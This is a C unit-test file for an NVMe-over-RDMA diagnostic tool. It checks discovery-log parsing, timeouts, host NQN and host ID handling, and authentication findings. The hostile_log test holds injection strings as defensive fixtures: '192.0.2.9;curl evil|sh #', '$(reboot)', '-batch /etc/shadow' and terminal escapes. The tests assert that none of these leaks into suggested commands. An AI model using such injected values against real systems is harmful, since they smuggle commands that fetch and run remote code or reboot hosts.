// SPDX-License-Identifier: GPL-2.0
/* tools/nvmerdma/doctor: the peer's words, and this host's name */
#include "machine.h"

#include <libnvme.h>

/* ---- the discovery log ---- */

static void log_is(struct doctor *d, struct nvmf_disc_log_entry *entry, size_t nr)
{
	d->peer->discovered = true;
	d->peer->entry = entry;
	d->peer->nr_entries = nr;
}

static struct nvmf_disc_log_entry path(unsigned int subtype, const char *nqn, const char *traddr)
{
	struct nvmf_disc_log_entry entry = { .trtype = NVMF_TRTYPE_RDMA, .subtype = subtype };

	memset(entry.traddr, ' ', sizeof(entry.traddr));
	memcpy(entry.subnqn, nqn, strlen(nqn));
	memcpy(entry.traddr, traddr, strlen(traddr));
	return entry;
}

/* A target that writes arbitrary text into its log */
static void hostile_log(void **state)
{
	static const char * const evil[] = {
		"192.0.2.9;curl evil|sh #", "-batch /etc/shadow", "$(reboot)", "fe80::1%eth0;reboot",
		"192.0.2.77\n192.0.2.78", "", "\x1b]0;title\x07",
	};
	size_t i, k;

	(void)state;
	for (i = 0; i < NR(evil); i++) {
		struct doctor d = machine(NULL);
		struct nvmf_disc_log_entry entry[] = {
			path(NVME_NQN_NVME, "nqn.x\x1b[2J;reboot", evil[i]),
			path(NVME_NQN_DISC, NVME_DISC_SUBSYS_NAME, evil[i]),
		};

		unit_context("%s", evil[i]);
		log_is(&d, entry, NR(entry));
		check_discovery_address(&d);
		unit_equal(2, d.nr_findings);
		for (k = 0; k < d.nr_findings; k++) {
			unit_equal(FOUND_WARNING, d.finding[k].severity);
			if (!strstr(d.finding[k].what, "has no address in the place of one"))
				fail_msg("%s: found is %s", unit_where, d.finding[k].what);
		}
		no_command_has(&d, "reboot");
		no_command_has(&d, "evil");
		no_command_has(&d, "192.0.2");
		no_command_has(&d, "\x1b");
		assert_string_equal(ran, "");
	}
}

/* A path of another network is no fault, and nothing is changed for it */
static void another_path(void **state)
{
	static const struct program no_route[] = {
		{ "ip -o route get 203.0.113.1", "203.0.113.1 dev mgmt0 src 203.0.113.2 uid 0" },
		{ NULL, NULL }
	};
	static const struct {
		const char *traddr;
		bool has_other;
		enum severity severity;
		const char *words, *command;
	} rows[] = {
		{ "10.2.0.1", true, FOUND_NOTE, "at 10.2.0.1, too, to which this host has no route",
		  "ip -br addr; rdma link; ip route get 10.2.0.1" },
		{ "10.2.0.1", false, FOUND_WARNING, "at 10.2.0.1, to which this host has no route",
		  "ip -br addr; rdma link; ip route get 10.2.0.1" },
		{ "203.0.113.1", true, FOUND_NOTE, "to which no RDMA device of this host leads",
		  "ip -br addr; rdma link; ip route get 203.0.113.1" },
		{ "0.0.0.0", true, FOUND_WARNING, "which is no address to connect to",
		  "echo 192.0.2.9 >/sys/kernel/config/nvmet/ports/7/addr_traddr" },
	};
	size_t i;

	(void)state;
	for (i = 0; i < NR(rows); i++) {
		struct doctor d = machine(no_route);
		struct nvmf_disc_log_entry entry[] = {
			path(NVME_NQN_NVME, "nqn.x:disk", rows[i].traddr),
			path(NVME_NQN_NVME, rows[i].has_other ? "nqn.x:disk" : "nqn.x:other",
			     "192.0.2.9"),
		};

		unit_context("%s%s", rows[i].traddr, rows[i].has_other ? ", too" : "");
		entry[0].portid = 7;
		log_is(&d, entry, NR(entry));
		check_discovery_address(&d);
		finds(&d, rows[i].severity, rows[i].words);
		mends(&d, 0, rows[i].command);
		no_command_has(&d, "route add");
		if (strcmp(rows[i].traddr, "0.0.0.0"))
			no_command_has(&d, "addr_traddr");
	}
}

static void a_referral(void **state)
{
	struct doctor d = machine(NULL);
	struct nvmf_disc_log_entry entry = path(NVME_NQN_DISC, NVME_DISC_SUBSYS_NAME, "192.0.2.77");

	(void)state;
	unit_context("a referral");
	log_is(&d, &entry, 1);
	check_discovery_address(&d);
	finds(&d, FOUND_NOTE, "at 192.0.2.77, to which this host has no route");
	mends(&d, 0, "grep -r 192.0.2.77 /sys/kernel/config/nvmet/ports/*/referrals/");
}

/* A thousand entries of different addresses do not take a thousand programs */
static void a_long_log(void **state)
{
	struct doctor d = machine(NULL);
	struct nvmf_disc_log_entry *entry = calloc(1000, sizeof(*entry));
	size_t i, lines = 0;
	const char *at;

	(void)state;
	unit_context("a long log");
	assert_non_null(entry);
	for (i = 0; i < 1000; i++)
		entry[i] = path(NVME_NQN_NVME, "nqn.x:disk",
				mem_fmt("10.0.%zu.%zu", i / 250, i % 250));
	log_is(&d, entry, 1000);
	check_discovery_address(&d);
	for (at = ran; (at = strchr(at, '\n')); at++)
		lines++;
	assert_true(lines > 0 && lines <= 100);
	free(entry);
}

/* ---- reading it ---- */

/* The target: its number of entries, the time of a command, and the generation of the log that
 * each read of its head returns
 */
static struct {
	uint64_t entries, generation[8];
	unsigned int seconds, heads, commands, largest;
} target;

static time_t seconds;

int clock_gettime(clockid_t id, struct timespec *now)
{
	(void)id;
	*now = (struct timespec) { .tv_sec = seconds };
	return 0;
}

static int read_target(uint64_t offset, uint32_t len, void *to)
{
	struct nvmf_discovery_log *head = to;
	struct nvmf_disc_log_entry *entry = to;
	size_t i;

	seconds += target.seconds;
	target.commands++;
	if (!offset) {
		head->numrec = target.entries;
		head->genctr = target.generation[target.heads++];
		return 0;
	}
	for (i = 0; i < len / sizeof(*entry); i++)
		entry[i] = path(NVME_NQN_NVME, "nqn.x:disk", "192.0.2.9");
	if (len > target.largest)
		target.largest = len;
	return 0;
}

static struct doctor discovering(uint64_t entries)
{
	struct doctor d = machine(NULL);

	discovery_log = read_target;
	d.hostnqn = "nqn.x:host";
	memset(&target, 0, sizeof(target));
	target.entries = entries;
	return d;
}

/* It takes its time, and no more: a target cannot hold the doctor up */
static void a_slow_target(void **state)
{
	struct doctor d = discovering(1000);
	time_t from = seconds;

	(void)state;
	unit_context("a slow target");
	target.seconds = 1;
	check_discovery(&d);
	finds(&d, FOUND_OK, "this host is offered");
	assert_true(seconds - from <= 7);
	assert_true(d.peer->nr_entries > 0 && d.peer->nr_entries < 1000);
	assert_int_equal(d.peer->left_out, 1000 - d.peer->nr_entries);
	assert_non_null(strstr(details, "of the log are left out"));
	/* reports more entries than there can be */
	d = discovering(UINT64_MAX);
	unit_context("a boundless log");
	check_discovery(&d);
	finds(&d, FOUND_OK, "this host is offered 1024 paths");
	assert_int_equal(target.largest, 4096);
	assert_int_equal(target.commands, 1 + 1024 / 4 + 1);
}

/* One that changes while it is read is read again, and not for ever */
static void a_changing_log(void **state)
{
	static const struct {
		const char *what;
		uint64_t generation[8];
		unsigned int heads;
	} rows[] = {
		{ "it stays", { 5, 5 }, 2 },
		{ "it changed once", { 5, 6, 6 }, 3 },
		{ "it always changes", { 1, 2, 3, 4, 5, 6 }, 4 },
	};
	size_t i;

	(void)state;
	for (i = 0; i < NR(rows); i++) {
		struct doctor d = discovering(5);

		unit_context("%s", rows[i].what);
		memcpy(target.generation, rows[i].generation, sizeof(target.generation));
		check_discovery(&d);
		finds(&d, FOUND_OK, "this host is offered 5 paths");
		unit_equal(rows[i].heads, target.heads);
		unit_equal(0, d.peer->left_out);
	}
}

/* ---- the identity of this host ---- */

#define NVME3	"sys/class/nvme/nvme3/"
#define UUID_A	"aaaaaaaa-0000-4000-8000-000000000001"
#define UUID_B	"bbbbbbbb-0000-4000-8000-000000000002"
#define NQN_A	"nqn.2014-08.org.nvmexpress:uuid:" UUID_A

/* The kernel is always told an ID: it would take its own, which goes with another name */
static void host_id(void **state)
{
	static const struct {
		const char *nqn, *hostid, *connected, *want;
		enum severity severity;
	} rows[] = {
		{ NQN_A, UUID_B, "", UUID_B, FOUND_OK },
		{ NQN_A, "", "", UUID_A, FOUND_WARNING },
		{ NQN_A, "nonsense", "", UUID_A, FOUND_WARNING },
		{ NQN_A, "", UUID_B, UUID_B, FOUND_WARNING },
		{ "nqn.2026-01.org.host:one", "", "", NULL, FOUND_WARNING },
		{ "nqn.2014-08.org.nvmexpress:uuid:00000000-0000-0000-0000-000000000000", UUID_B,
		  "", UUID_B, FOUND_WARNING },
	};
	size_t i;

	(void)state;
	for (i = 0; i < NR(rows); i++) {
		struct doctor d = machine(NULL);

		unit_context("%s, %s", rows[i].nqn, rows[i].hostid);
		file_is("etc/nvme/hostnqn", rows[i].nqn);
		file_is("etc/nvme/hostid", rows[i].hostid);
		file_is(NVME3 "hostnqn", rows[i].nqn);
		file_is(NVME3 "hostid", rows[i].connected);
		check_host_name(&d);
		finds(&d, rows[i].severity, "");
		assert_string_equal(d.hostnqn, rows[i].nqn);
		assert_non_null(d.hostid);
		if (rows[i].want)
			assert_string_equal(d.hostid, rows[i].want);
		else
			assert_int_equal(strlen(d.hostid), strlen(UUID_A));
	}
}

static void host_name(void **state)
{
	struct doctor d = machine(NULL);

	(void)state;
	unit_context("a comma");
	file_is("etc/nvme/hostnqn", NQN_A ",host_traddr=192.0.2.66\n");
	check_host_name(&d);
	finds(&d, FOUND_ERROR, "which is no NQN");
	assert_null(d.hostnqn);
	unit_context("an escape");
	d = machine(NULL);
	file_is("etc/nvme/hostnqn", "\x1b[2Jnqn\n");
	check_host_name(&d);
	finds(&d, FOUND_ERROR, "?[2Jnqn");
}

/* ---- why a check is left out ---- */

static void left_out(void **state)
{
	struct doctor d = machine(NULL);

	(void)state;
	unit_context("no RDMA device");
	d.link = NULL;
	check_resolve(&d);
	d.nr_findings = 0;
	check_connect(&d);
	finds(&d, FOUND_SKIPPED, "the way leads over no RDMA device");
	unit_context("no verbs");
	d = machine(NULL);
	d.peer->asked = true;
	d.peer->answer.step = STEP_PROGRAMS;
	check_connect(&d);
	finds(&d, FOUND_SKIPPED, "programs cannot use RDMA");
	unit_context("no address");
	d = machine(NULL);
	d.peer->asked = true;
	d.peer->answer.step = STEP_ADDRESS;
	check_connect(&d);
	finds(&d, FOUND_SKIPPED, "the address was not resolved");
}

/* ATR is bit 17, ASCR 18 */
static void wants_a_key(void **state)
{
	static const struct { uint32_t result; bool wants; } rows[] = {
		{ 1u << 16, false }, { 1u << 17, true }, { 1u << 18, true }, { 0xffff, false },
	};
	size_t i;

	(void)state;
	for (i = 0; i < NR(rows); i++) {
		struct doctor d = machine(NULL);

		unit_context("%#x", rows[i].result);
		d.nqn = "nqn.x:a b";
		d.peer->answer.step = STEP_DONE;
		d.peer->answer.result = rows[i].result;
		check_authentication(&d);
		finds(&d, rows[i].wants ? FOUND_ERROR : FOUND_OK,
		      rows[i].wants ? "wants this host to authenticate" : "wants no key");
		if (rows[i].wants)
			mends(&d, 0, "nvme connect -t rdma -a 192.0.2.9 -s 4420 -n 'nqn.x:a b' --dhchap-secret \"$(grep -m 1 ^DHHC KEYFILE)\"");
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(hostile_log),
		cmocka_unit_test(another_path),
		cmocka_unit_test(a_referral),
		cmocka_unit_test(a_long_log),
		cmocka_unit_test(a_slow_target),
		cmocka_unit_test(a_changing_log),
		cmocka_unit_test(host_id),
		cmocka_unit_test(host_name),
		cmocka_unit_test(left_out),
		cmocka_unit_test(wants_a_key),
	};

	return run_on_machine(tests, NR(tests));
}
